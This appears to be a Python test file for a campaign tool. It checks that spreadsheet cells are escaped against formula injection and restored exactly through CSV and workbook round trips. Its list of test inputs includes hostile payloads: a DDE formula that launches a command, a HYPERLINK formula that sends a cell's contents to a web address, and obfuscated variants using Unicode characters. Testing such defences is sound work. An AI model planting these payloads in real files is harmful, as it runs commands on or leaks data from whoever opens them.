"""No cell of a file of ours runs as a formula in a spreadsheet, and every cell comes back as it was."""

from __future__ import annotations

import csv

import pytest
from hypothesis import given
from hypothesis import strategies as st

from campaigns.audience.files.open_list import open_table
from campaigns.audience.formulas import harmless, restored
from tests.support.campaign_files import workbook

FORMULAS = [
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    " =1",
    "\n=1",
    "\t=1",
    "\r=1",
    "\tx",
    "' \n",  # it comes back with its own apostrophe
    "\xa0=1",  # a no-break space
    "\u3000=1",  # a full-width one
    "\u200b=1",  # nothing that is seen
    "\ufeff@x",
    "\x00=1",
    "＝1",
    "＋1",
    "－1",
    "＠x",
    "−1+1",  # the minus sign of mathematics
    "+1-415-555-0101",
    '=HYPERLINK("http://example.com/?"&A2)',
]
HARMLESS = [
    "",
    "Ann",
    "+14155550101",
    "-5",
    "-32602",
    "+1415*****01",
    "a=b",
    "1+1",
    "'",
    "O'Hara",
    "'tis",
    "two\nlines",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_a_text(text):
    assert harmless(text) == f"'{text}"
    assert restored([harmless(text)]) == [text]


@pytest.mark.parametrize("text", HARMLESS)
def test_texts_and_numbers_stay_as_they_are(text):
    assert harmless(text) == text
    assert restored([text]) == [text]


@pytest.mark.slow
@given(st.text(alphabet="'=+-@＝ \t\n\r\u200b1*.x") | st.text())
def test_every_cell_comes_back_as_it_was(text):
    assert restored([harmless(text)]) == [text]


@pytest.mark.slow
@given(st.lists(st.text(alphabet="'=+-@＝ \t\n1x,;\""), min_size=2, max_size=4))
def test_a_row_comes_back_from_a_file_as_it_was(tmp_path_factory, cells):
    file = tmp_path_factory.mktemp("list") / "list.csv"
    with file.open("w", encoding="utf-8", newline="") as stream:
        csv.writer(stream, quoting=csv.QUOTE_ALL).writerows([["a", "b"], [*map(harmless, cells), "x"]])
    assert [list(row.cells) for row in open_table(file).rows()] == [[*cells, "x"]]


def test_a_file_of_ours_that_was_saved_as_a_workbook_comes_back_too(tmp_path):
    (tmp_path / "list.xlsx").write_bytes(workbook([["'=name", "phone"], *(["x", f"'{text}"] for text in FORMULAS[:4])]))
    table = open_table(tmp_path / "list.xlsx")
    assert table.header == ("=name", "phone")
    assert [row.cells[1] for row in table.rows()] == FORMULAS[:4]
